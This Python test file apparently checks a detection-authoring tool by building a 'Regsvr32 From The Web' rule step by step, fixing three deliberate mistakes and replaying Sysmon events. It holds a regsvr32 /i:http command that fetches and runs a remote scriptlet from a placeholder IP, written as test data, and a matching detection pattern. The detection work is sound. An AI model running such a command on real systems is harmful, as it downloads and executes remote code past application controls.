"""A detection of one's own, from nothing to a replay over one's own events, as docs/first-detection.md has it."""

import json
import re

import pytest

from sandbox import __main__ as sandbox
from tests.support.windows.sysmon import sysmon
from tools import __main__ as tools

pytestmark = pytest.mark.xdist_group("demo")

NAME = "Regsvr32 From The Web"
SAVED = f"SSA - {NAME} - Rule"
WEB = r"regsvr32.exe /s /u /i:http://203.0.113.5/a.sct scrobj.dll"
HIT, MISS = f"process: '{WEB}'", r"process: 'regsvr32.exe /s C:\Windows\System32\vbscript.dll'"


class Engineer:
    """Who types commands, counts them, and edits files."""

    def __init__(self, app, capsys):
        self.app, self.capsys, self.commands = app, capsys, 0

    def types(self, main, *words):
        self.commands += 1
        code = main(list(map(str, words)))
        output = self.capsys.readouterr()
        return code, output.out, output.err

    def edits(self, file, *changes):
        text = (self.app / "local" / file).read_text()
        for before, after in changes:
            assert before in text, before
            text = text.replace(before, after)
        (self.app / "local" / file).write_text(text)


def test_a_detection_of_ones_own_takes_less_than_ten_commands_with_three_mistakes(app, archive, tmp_path, capsys):
    me = Engineer(app, capsys)
    conf, tests = app / "local/ssa_detections.conf", app / "local/tests/regsvr32_from_the_web.yml"
    at_app = ("--app", app)

    code, out, _ = me.types(tools.main, "new", NAME, *at_app)
    assert code == 0
    assert [command for command in ("explain", "test", "import", "replay") if f" {command} " not in out] == []
    me.edits(
        "tests/regsvr32_from_the_web.yml",
        ("example.exe\n  process_path", "regsvr32.exe\n  process_path"),
        ("""process: '"C:\\Users\\jdoe\\example.exe" --example now'""", HIT),
        ("""process: '"C:\\Users\\jdoe\\example.exe" --help'""", MISS),
    )

    # The first mistake: a function that is not there.
    me.edits("ssa_detections.conf", ("example.exe", "Regsvr32.exe"), ("like(cmd_line", "lik(cmd_line"))
    code, _, err = me.types(tools.main, "explain", conf)
    assert (code, "did you mean like?" in err) == (1, True), err
    assert re.search(rf"{re.escape(str(conf))}, line \d+: \[{NAME}\] search: .*\(line 5, column 41\)", err)

    # The second: a name in capitals, compared with small letters; a field and a technique that are not there.
    me.edits(
        "ssa_detections.conf",
        ("lik(cmd_line", "like(cmd_line"),
        ('"process"), "string"', '"proces"), "string"'),
        ("mitre_attack_id =", "mitre_attack_id = T1218.10"),
    )
    code, out, _ = me.types(tools.main, "explain", conf)
    assert code == 1
    assert '"Regsvr32.exe" is never equal to what is in lower case' in out
    assert "no source that we know gives the field proces: did you mean process?" in out
    assert "ATT&CK has no technique 'T1218.10': did you mean T1218.010?" in out

    # The third: the pattern of the example is still there, and the event that must be a hit is none.
    me.edits(
        "ssa_detections.conf",
        ("Regsvr32.exe", "regsvr32.exe"),
        ('"proces"', '"process"'),
        ("T1218.10", "T1218.010"),
    )
    code, _, err = me.types(tools.main, "test", tests, *at_app)
    assert code == 1
    assert f"{tests}, line 5: {NAME}: this event is no hit" in err
    assert 'it requires that process contains "--example", in any case' in err

    # Right; but its search still looks for the example.
    me.edits("ssa_detections.conf", ("%--example%", "%/i:http%"))
    code, _, err = me.types(tools.main, "test", tests, *at_app)
    assert (code, "keeps this event away from its search" in err, "tools import" in err) == (1, True, True)
    code, out, _ = me.types(tools.main, "import", conf, *at_app)
    assert (code, 'regsvr32 process="*/i:http*"' in (app / "local/macros.conf").read_text()) == (0, True)
    code, out, err = me.types(tools.main, "test", tests, *at_app)
    assert (code, out, err) == (0, f"{NAME}: 1 hits and 1 misses, as they must be\n", "")

    events = tmp_path / "events.xml"
    events.write_text(sysmon(r"C:\Windows\System32\regsvr32.exe", WEB) + sysmon(r"C:\Windows\System32\cmd.exe", "cmd"))
    local = ("--local", app / "local", "--package", archive)
    code, out, _ = me.types(sandbox.main, "replay", "--json", *local, events)
    found = [json.loads(line) for line in out.splitlines()]
    assert code == 0
    assert [(one["detection"], one["process"]) for one in found if one["kind"] == "detection"] == [(NAME, WEB)]
    assert {one["risk_object"] for one in found if one["kind"] == "risk_event"} == {"jdoe", "ws-1"}
    assert found[-1]["own"] == {NAME: f"run by {SAVED}"}
    assert me.commands < 10
